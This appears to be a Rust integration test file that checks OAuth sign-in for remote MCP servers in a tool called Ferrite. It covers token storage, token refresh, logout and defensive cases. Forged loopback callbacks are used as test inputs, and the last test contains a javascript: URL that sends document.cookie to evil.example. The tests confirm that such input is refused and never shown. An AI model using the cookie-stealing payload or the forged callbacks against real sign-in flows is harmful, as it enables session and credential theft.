//! OAuth for remote MCP servers, through the real binary against a local OAuth-protected MCP
//! server (`ferrite_test_support::mcp_server::oauth`: metadata, registration, authorize, token
//! with PKCE, refresh). The test client plays the user: it answers the URL elicitation by
//! visiting the link, which redirects to Ferrite's loopback listener with the code.

use std::path::{Path, PathBuf};
use std::time::Duration;

use ferrite_test_support::fake_provider::{FakeProvider, Script};
use ferrite_test_support::mcp_server::oauth::{query_param, start_http_oauth, visit};
use ferrite_test_support::{AcpClient, agent_text};
use serde_json::{Value, json};

use super::common::*;
use super::turns::{Api, provider_env};

const WAIT: Duration = Duration::from_secs(20);

/// `ferrite acp` initialized with URL elicitation (`links`) or without, and notices either way
/// off: a client that advertises nothing new.
async fn client(world: &World, fake: &FakeProvider, links: bool) -> AcpClient {
    client_env(world, fake, links, &[]).await
}

async fn client_env(
    world: &World,
    fake: &FakeProvider,
    links: bool,
    extra: &[(&str, &str)],
) -> AcpClient {
    let mut env = provider_env(fake, Api::Anthropic);
    env.extend(
        extra
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned())),
    );
    let mut c = world.spawn_acp(env);
    let mut caps = json!({"fs": {"readTextFile": false, "writeTextFile": false}});
    if links {
        caps["elicitation"] = json!({"url": {}});
    }
    c.request(
        "initialize",
        json!({"protocolVersion": 1, "clientCapabilities": caps}),
    )
    .await
    .ok();
    c
}

/// A session in `auto` mode with the server at `url` as `remote`, and its id. What else
/// arrives meanwhile (an `elicitation/create`, notices) stays for later waits and collections.
/// (The second value is kept empty for the call sites' shape.)
async fn session(c: &mut AcpClient, world: &World, url: &str) -> (String, Vec<Value>) {
    let servers = json!([{"type": "http", "name": "remote", "url": url, "headers": []}]);
    let id = c
        .send_request(
            "session/new",
            json!({"cwd": world.ws(), "mcpServers": servers}),
        )
        .await;
    let answer = c
        .wait_for(WAIT, answer_to(id))
        .await
        .expect("session/new answered");
    let sid = sid(&answer["result"]);
    let id = c
        .send_request(
            "session/set_mode",
            json!({"sessionId": sid, "modeId": "auto"}),
        )
        .await;
    c.wait_for(WAIT, answer_to(id))
        .await
        .expect("set_mode answered");
    (sid, vec![])
}

/// Matches the answer to request `id`.
fn answer_to(id: Value) -> impl Fn(&Value) -> bool {
    move |m: &Value| m.get("method").is_none() && m["id"] == id
}

/// Answers the URL elicitation of `sid` as a user does: yes, then the link in a browser.
async fn sign_in_as_user(c: &mut AcpClient, sid: &str) {
    let ask = c
        .wait_for(WAIT, |m| m["method"] == "elicitation/create")
        .await
        .expect("an elicitation/create in URL mode");
    let p = &ask["params"];
    assert_eq!(p["mode"], "url", "{ask}");
    assert_eq!(p["sessionId"], sid);
    assert!(p["message"].as_str().unwrap().contains("remote"), "{ask}");
    let link = p["url"].as_str().unwrap().to_owned();
    assert!(link.contains("/authorize?"), "{link}");
    assert!(link.contains("code_challenge_method=S256"), "{link}");
    let elicitation = p["elicitationId"].clone();
    c.respond(&ask["id"], json!({"action": "accept"})).await;
    let (status, page) = visit(&link).await;
    assert_eq!(status, 200, "{page}");
    assert!(page.contains("Signed in"), "{page}");
    let done = c
        .wait_for(WAIT, |m| m["method"] == "elicitation/complete")
        .await
        .expect("elicitation/complete after the redirect");
    assert_eq!(done["params"]["elicitationId"], elicitation);
}

/// One turn that calls the server's `echo`; the tool result the model got back.
async fn echo_turn(c: &mut AcpClient, fake: &FakeProvider, sid: &str, text: &str) -> Vec<Value> {
    let before = fake.requests().len();
    let input = json!({ "text": text }).to_string();
    fake.push(Script::new().tool_call("e1", "mcp__remote__echo", input));
    fake.push(Script::new().text("done"));
    let seen = prompt_to_end(c, sid, "use the remote tool").await;
    let requests = fake.requests();
    assert!(
        tool_names(&requests[before].body).contains(&"mcp__remote__echo".to_owned()),
        "the server's tools are offered; agent's stderr:\n{}",
        c.stderr()
    );
    let (result, is_error) = tool_results(&requests[before + 1].body).remove(0);
    assert!(!is_error && result.contains(text), "{result}");
    seen
}

fn token_files(home: &Path) -> Vec<PathBuf> {
    match std::fs::read_dir(home.join("mcp-auth")) {
        Ok(dir) => dir
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "json"))
            .collect(),
        Err(_) => vec![],
    }
}

/// The stored token file (exactly one), checked to be private.
fn stored(home: &Path) -> Value {
    let files = token_files(home);
    assert_eq!(files.len(), 1, "{files:?}");
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&files[0]), 0o600, "token file mode");
        assert_eq!(mode(&home.join("mcp-auth")), 0o700, "token directory mode");
    }
    serde_json::from_slice(&std::fs::read(&files[0]).unwrap()).unwrap()
}

fn access_token(stored: &Value) -> String {
    stored["credentials"]["token_response"]["access_token"]
        .as_str()
        .unwrap()
        .to_owned()
}

fn no_elicitation(seen: &[Value]) {
    assert!(
        !seen.iter().any(|m| m["method"] == "elicitation/create"),
        "no sign-in page was needed"
    );
}

/// The sign-in link a terminal command prints on stderr. The rest of its stderr is read on (and
/// dropped), so the command never writes into a closed pipe.
async fn printed_link(stderr: tokio::process::ChildStderr) -> String {
    use tokio::io::{AsyncBufReadExt, BufReader};
    let mut lines = BufReader::new(stderr).lines();
    let link = tokio::time::timeout(WAIT, async {
        while let Some(line) = lines.next_line().await.unwrap() {
            if let Some(link) = line.trim().strip_prefix("http") {
                return format!("http{link}");
            }
        }
        panic!("no link on stderr");
    })
    .await
    .expect("the link is printed");
    tokio::spawn(async move { while let Ok(Some(_)) = lines.next_line().await {} });
    link
}

/// The stored token as if received long ago: expired, as time passing would make it.
fn age_stored_token(world: &World) {
    let mut file = stored(world.home());
    file["credentials"]["token_received_at"] = json!(1);
    let path = token_files(world.home()).remove(0);
    std::fs::write(&path, serde_json::to_vec(&file).unwrap()).unwrap();
}

#[tokio::test]
async fn sign_in_once_then_reuse_refresh_and_sign_in_again_when_revoked() {
    let (url, server) = start_http_oauth().await;
    let world = World::new();
    let fake = FakeProvider::start().await.unwrap();

    // First start: 401 → discovery → registration → the page through URL elicitation.
    let mut c = client(&world, &fake, true).await;
    let (sid1, _) = session(&mut c, &world, &url).await;
    sign_in_as_user(&mut c, &sid1).await;
    echo_turn(&mut c, &fake, &sid1, "through oauth").await;
    let s = server.stats();
    assert_eq!(
        (
            s.registrations,
            s.authorizations,
            s.code_grants,
            s.refreshes
        ),
        (1, 1, 1, 0),
        "{s:?}"
    );
    let first = stored(world.home());
    assert_eq!(first["url"], url.as_str());
    let token = access_token(&first);
    assert!(!c.stderr().contains(&token), "the token is never logged");
    assert!(c.violations().is_empty(), "{:?}", c.violations());
    drop(c);

    // A restart reuses the stored token, even for a client that could not show the page.
    let mut c = client(&world, &fake, false).await;
    let (sid2, early) = session(&mut c, &world, &url).await;
    let seen = echo_turn(&mut c, &fake, &sid2, "stored token").await;
    no_elicitation(&[early, seen].concat());
    let s = server.stats();
    assert_eq!((s.authorizations, s.refreshes), (1, 0), "{s:?}");
    assert_eq!(access_token(&stored(world.home())), token);
    drop(c);

    // An expired access token is refreshed with the refresh token, without the user.
    server.expire_access_tokens();
    age_stored_token(&world);
    // With every debug log on: still no token in them.
    let mut c = client_env(&world, &fake, true, &[("FERRITE_LOG", "debug")]).await;
    let (sid3, early) = session(&mut c, &world, &url).await;
    let seen = echo_turn(&mut c, &fake, &sid3, "refreshed").await;
    no_elicitation(&[early, seen].concat());
    let s = server.stats();
    assert_eq!((s.authorizations, s.refreshes), (1, 1), "{s:?}");
    let refreshed = access_token(&stored(world.home()));
    assert_ne!(refreshed, token, "the new token is stored");
    let refresh_token = stored(world.home())["credentials"]["token_response"]["refresh_token"]
        .as_str()
        .unwrap()
        .to_owned();
    let log = c.stderr();
    assert!(log.contains("DEBUG"), "debug logs are on");
    for secret in [&token, &refreshed, &refresh_token] {
        assert!(!log.contains(secret.as_str()), "a token in the log");
    }
    drop(c);

    // A revoked refresh token falls back to the browser.
    server.expire_access_tokens();
    server.revoke_refresh_tokens();
    age_stored_token(&world);
    let mut c = client(&world, &fake, true).await;
    let (sid4, _) = session(&mut c, &world, &url).await;
    sign_in_as_user(&mut c, &sid4).await;
    echo_turn(&mut c, &fake, &sid4, "signed in again").await;
    let s = server.stats();
    assert_eq!((s.authorizations, s.code_grants), (2, 2), "{s:?}");
    assert!(
        s.refused >= 1,
        "the revoked refresh was tried and refused: {s:?}"
    );
    assert!(c.violations().is_empty(), "{:?}", c.violations());
}

/// An editor that cannot open links gets a clear message naming the server and how to sign
/// in; the session works without the server's tools, and nothing waits for a sign-in.
#[tokio::test]
async fn without_url_elicitation_the_user_is_told_how_to_sign_in() {
    let (url, server) = start_http_oauth().await;
    let world = World::new();
    let fake = FakeProvider::start().await.unwrap();
    let mut c = client(&world, &fake, false).await;
    let (sid, early) = session(&mut c, &world, &url).await;
    fake.push(Script::new().text("no remote tools"));
    let started = std::time::Instant::now();
    let seen = prompt_to_end(&mut c, &sid, "hello").await;
    assert!(started.elapsed() < HANG_GUARD, "no hang");
    let all = [early, seen, c.drain(QUIET).await].concat();
    no_elicitation(&all);
    let text = agent_text(&all);
    assert!(text.contains("`remote`"), "{text}");
    assert!(text.contains(&format!("ferrite mcp login {url}")), "{text}");
    assert!(
        !tool_names(&fake.requests()[0].body)
            .iter()
            .any(|t| t.starts_with("mcp__remote")),
        "its tools are unavailable"
    );
    assert_eq!(server.stats().registrations, 0, "nothing was registered");
    assert!(token_files(world.home()).is_empty());
}

/// `ferrite mcp login <url>` signs in from a terminal (the link on stderr), and sessions of any
/// editor use the stored token.
#[tokio::test]
async fn mcp_login_from_a_terminal_stores_the_token_for_sessions() {
    let (url, server) = start_http_oauth().await;
    let world = World::new();
    let mut login = tokio::process::Command::new(BIN)
        .args(["mcp", "login", &url])
        .current_dir(world.ws())
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("FERRITE_HOME", world.home())
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let link = printed_link(login.stderr.take().unwrap()).await;
    let (status, _) = visit(&link).await;
    assert_eq!(status, 200);
    let status = tokio::time::timeout(WAIT, login.wait())
        .await
        .unwrap()
        .unwrap();
    assert!(status.success());
    let token = access_token(&stored(world.home()));

    let fake = FakeProvider::start().await.unwrap();
    let mut c = client(&world, &fake, false).await;
    let (sid, early) = session(&mut c, &world, &url).await;
    let seen = echo_turn(&mut c, &fake, &sid, "after login").await;
    no_elicitation(&[early, seen].concat());
    assert_eq!(server.stats().authorizations, 1);
    assert!(!c.stderr().contains(&token));

    // `logout` forgets it.
    let out = std::process::Command::new(BIN)
        .args(["mcp", "logout", &url])
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("FERRITE_HOME", world.home())
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(token_files(world.home()).is_empty());
}

/// `ferrite run` prints the sign-in link on stderr; once the user has been there, the turn uses
/// the server's tools.
#[tokio::test]
async fn ferrite_run_prints_the_link_and_then_uses_the_tools() {
    let (url, server) = start_http_oauth().await;
    let world = World::new();
    world.write_config(&format!("[mcp_servers.remote]\nurl = \"{url}\"\n"));
    let fake = FakeProvider::start().await.unwrap();
    let input = json!({ "text": "from run" }).to_string();
    fake.push(Script::new().tool_call("e1", "mcp__remote__echo", input));
    fake.push(Script::new().text("done"));
    let mut run = tokio::process::Command::new(BIN)
        .args(["run", "--mode", "auto", "use the remote tool"])
        .current_dir(world.ws())
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("FERRITE_HOME", world.home())
        .envs(provider_env(&fake, Api::Anthropic))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    let link = printed_link(run.stderr.take().unwrap()).await;
    assert_eq!(visit(&link).await.0, 200);
    let out = tokio::time::timeout(WAIT, run.wait_with_output())
        .await
        .unwrap()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let requests = fake.requests();
    assert!(tool_names(&requests[0].body).contains(&"mcp__remote__echo".to_owned()));
    let (result, _) = tool_results(&requests[1].body).remove(0);
    assert!(result.contains("from run"), "{result}");
    assert_eq!(server.stats().code_grants, 1);
    stored(world.home());
}

/// A user who declines the sign-in page: no wait for a browser, the session goes on without the
/// server's tools, and the message says how to sign in later.
#[tokio::test]
async fn a_declined_sign_in_leaves_the_session_working() {
    let (url, server) = start_http_oauth().await;
    let world = World::new();
    let fake = FakeProvider::start().await.unwrap();
    let mut c = client(&world, &fake, true).await;
    let (sid, early) = session(&mut c, &world, &url).await;
    let ask = c
        .wait_for(WAIT, |m| m["method"] == "elicitation/create")
        .await
        .expect("the sign-in page is offered");
    c.respond(&ask["id"], json!({"action": "decline"})).await;
    fake.push(Script::new().text("fine"));
    let seen = prompt_to_end(&mut c, &sid, "hello").await;
    let all = [early, seen, c.drain(QUIET).await].concat();
    assert!(
        !all.iter().any(|m| m["method"] == "elicitation/complete"),
        "nothing was opened, so nothing completes"
    );
    let text = agent_text(&all);
    assert!(text.contains("declined"), "{text}");
    assert!(text.contains(&format!("ferrite mcp login {url}")), "{text}");
    assert!(
        !tool_names(&fake.requests()[0].body)
            .iter()
            .any(|t| t.starts_with("mcp__remote"))
    );
    assert_eq!(server.stats().code_grants, 0);
    assert!(token_files(world.home()).is_empty());
}

/// `ferrite doctor` names the remote servers of config and says whether a sign-in is stored and
/// how to sign in.
#[tokio::test]
async fn doctor_names_remote_servers_and_how_to_sign_in() {
    let world = World::new();
    world.write_config("[mcp_servers.remote]\nurl = \"https://mcp.example.com/mcp\"\n");
    let out = std::process::Command::new(BIN)
        .arg("doctor")
        .current_dir(world.ws())
        .env_clear()
        .env("PATH", std::env::var("PATH").unwrap_or_default())
        .env("FERRITE_HOME", world.home())
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    let line = text
        .lines()
        .find(|l| l.contains("https://mcp.example.com/mcp"))
        .unwrap_or_else(|| panic!("{text}"));
    assert!(line.contains("remote"), "{line}");
    assert!(line.contains("`ferrite mcp login remote`"), "{line}");
}

/// Two sessions that start at once with an expired token take turns refreshing it (the
/// authorization server rotates refresh tokens): neither is sent back to the browser.
#[tokio::test]
async fn sessions_refreshing_at_once_keep_the_sign_in() {
    let (url, server) = start_http_oauth().await;
    let world = World::new();
    let fake = FakeProvider::start().await.unwrap();
    let mut c = client(&world, &fake, true).await;
    let (signed, _) = session(&mut c, &world, &url).await;
    sign_in_as_user(&mut c, &signed).await;
    drop(c);

    server.expire_access_tokens();
    let path = token_files(world.home()).remove(0);
    let mut file = stored(world.home());
    file["credentials"]["token_received_at"] = json!(1);
    std::fs::write(&path, serde_json::to_vec(&file).unwrap()).unwrap();
    let mut c = client(&world, &fake, false).await;
    let servers = json!([{"type": "http", "name": "remote", "url": url, "headers": []}]);
    let new = json!({"cwd": world.ws(), "mcpServers": servers});
    let a = c.send_request("session/new", new.clone()).await;
    let b = c.send_request("session/new", new).await;
    // The answers may come in either order: each is waited for apart.
    let first = c.wait_for(WAIT, answer_to(a)).await.expect("an answer");
    let second = c.wait_for(WAIT, answer_to(b)).await.expect("an answer");
    let mut seen = vec![];
    for s in [sid(&first["result"]), sid(&second["result"])] {
        c.request(
            "session/set_mode",
            json!({"sessionId": s, "modeId": "auto"}),
        )
        .await
        .ok();
        seen.extend(echo_turn(&mut c, &fake, &s, "both").await);
    }
    no_elicitation(&seen);
    let st = server.stats();
    assert_eq!((st.authorizations, st.refused), (1, 0), "{st:?}");
    assert!(st.refreshes >= 1, "{st:?}");
}

/// The loopback listener is reachable by any local process: a callback with a code but another
/// `state` is refused with an error page and does not end the sign-in; the user's own browser
/// coming back afterwards still signs in.
#[tokio::test]
async fn a_callback_of_another_sign_in_is_refused_without_ending_this_one() {
    let (url, server) = start_http_oauth().await;
    let world = World::new();
    let fake = FakeProvider::start().await.unwrap();
    let mut c = client(&world, &fake, true).await;
    let (sid, _) = session(&mut c, &world, &url).await;
    let ask = c
        .wait_for(WAIT, |m| m["method"] == "elicitation/create")
        .await
        .expect("an elicitation/create in URL mode");
    let link = ask["params"]["url"].as_str().unwrap().to_owned();
    let redirect = query_param(&link, "redirect_uri").expect("a redirect_uri");
    c.respond(&ask["id"], json!({"action": "accept"})).await;
    for stray in [
        format!("{redirect}?code=stolen&state=not-this-one"),
        format!("{redirect}?code=stolen"),
        format!("{redirect}?error=access_denied&state=not-this-one"),
    ] {
        let (status, page) = visit(&stray).await;
        assert_eq!(status, 400, "{stray}: {page}");
    }
    let (status, page) = visit(&link).await;
    assert_eq!(status, 200, "{page}");
    assert!(page.contains("Signed in"), "{page}");
    echo_turn(&mut c, &fake, &sid, "after a stray callback").await;
    assert_eq!(server.stats().code_grants, 1);
}

/// An authorization server whose `authorization_endpoint` is not `https` (nor `http` on this
/// machine) is refused: its address is never sent as an elicitation URL nor shown.
#[tokio::test]
async fn a_sign_in_page_that_is_not_https_is_never_shown() {
    let (url, server) = start_http_oauth().await;
    server.authorize_at("javascript:fetch('//evil.example/'+document.cookie)//");
    let world = World::new();
    let fake = FakeProvider::start().await.unwrap();
    let mut c = client(&world, &fake, true).await;
    let (sid, _) = session(&mut c, &world, &url).await;
    let told = c
        .wait_for(WAIT, |m| {
            m["method"] == "session/update" && m.to_string().contains("only https pages")
        })
        .await
        .expect("the user is told why the server is not signed in");
    assert_eq!(told["params"]["sessionId"], sid.as_str());
    fake.push(Script::new().text("ok"));
    let seen = prompt_to_end(&mut c, &sid, "hello").await;
    let mut all = c.drain(Duration::from_millis(100)).await;
    all.extend(seen);
    all.push(told);
    assert!(!all.iter().any(|m| m["method"] == "elicitation/create"));
    assert!(!all.iter().any(|m| m.to_string().contains("javascript:")));
    assert!(!c.stderr().contains("javascript:"), "{}", c.stderr());
    assert_eq!(server.stats().authorizations, 0);
}
